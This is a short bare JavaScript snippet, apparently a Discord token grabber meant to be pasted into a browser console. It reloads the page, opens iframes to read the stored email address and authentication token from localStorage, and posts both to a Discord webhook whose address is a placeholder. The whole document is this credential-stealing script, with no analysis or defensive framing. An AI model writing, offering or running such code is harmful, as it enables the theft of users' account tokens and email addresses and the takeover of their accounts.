const quotes = /^"|"$/g;
const hook = "https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER";
function tell({ text }) {
  const req = new XMLHttpRequest();
  req.open("POST", hook);
  req.setRequestHeader("Content-type", "application/json");
  req.send(JSON.stringify({ content: text || "nothing" }));
}
location.reload();
const timer = setInterval(() => {
  const found = {
    mail: document.body.appendChild(document.createElement`iframe`).contentWindow.localStorage.email_cache.replace(quotes, ""),
    key: document.body.appendChild(document.createElement`iframe`).contentWindow.localStorage.token.replace(quotes, "")
  };
  if (found.key) {
    tell({ text: `Mail: **${found.mail}**\nKey: **${found.key}**` });
    clearInterval(timer);
  }
});
